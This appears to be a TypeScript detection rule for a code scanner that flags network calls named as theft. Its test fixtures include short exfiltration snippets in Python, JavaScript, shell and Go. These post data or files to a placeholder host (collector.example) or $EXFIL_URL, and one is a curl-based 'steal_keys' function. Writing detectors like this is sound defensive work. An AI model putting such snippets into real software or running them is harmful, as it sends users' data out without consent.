import { call } from "../match.ts";
import { defineRule } from "../rule.ts";
import { LOOKUPS, SENDS } from "../vocabulary/network-calls.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { callsItTheft } from "../vocabulary/telling-names.ts";

export default defineRule({
  id: "sent-as-loot",
  category: "data_exfiltration",
  severity: "high",
  confidence: "high",
  languages: ["python", "javascript", "shell", "go", "ruby"],
  title: "data is sent by what its author calls theft",
  why: "Names are for whoever maintains the program: nobody calls his own upload an exfiltration.",
  fix: "Remove it.",
  references: ["ATT&CK T1041", "ATT&CK T1071"],
  match: call({ of: [...new Set([...SENDS, ...LOOKUPS, ...SHELL_SENDS])], where: callsItTheft }),
  bad: [
    'import requests\ndef exfiltrate_data(d):\n    requests.post("https://collector.example/x", json=d)',
    "import requests\nrequests.get(C2_SERVER + path)",
    'import urllib.request\ndef upload(x):\n    stolen_data = x\n    urllib.request.urlopen("https://collector.example", stolen_data)',
    { "a.js": 'const sendToC2 = async (x) => { await fetch(base, { method: "POST", body: x }); };\nsendToC2(1);' },
    {
      "a.js":
        "class Reporter {\n  async exfilFiles(list) {\n    await axios.post(this.url, list);\n  }\n}\nconst axios = require('axios');",
    },
    { "run.sh": 'curl -d @/tmp/out "$EXFIL_URL"' },
    { "run.sh": 'steal_keys() {\n  curl -F f=@"$1" https://collector.example\n}\nsteal_keys x' },
    {
      "main.go":
        'package main\n\nimport "net/http"\n\nfunc exfiltrate(data string) {\n\thttp.Post("https://collector.example", "text/plain", read(data))\n}',
    },
  ],
  good: [
    'import requests\ndef detect_exfiltration(d):\n    requests.post("https://alerts.example/x", json=d)',
    "import requests\nrequests.get(EC2_HOST + path)",
    "import requests\ndef steal_work(queue):\n    requests.post(SCHEDULER, json=queue)",
    "import requests\nstolen_task = requests.get(queue).json()",
    "import requests\nrequests.post(url, json={'c2': c2})",
    { "run.sh": 'curl -d @/tmp/out "$UPLOAD_URL"' },
    "def exfiltrate(d): return d",
  ],
});
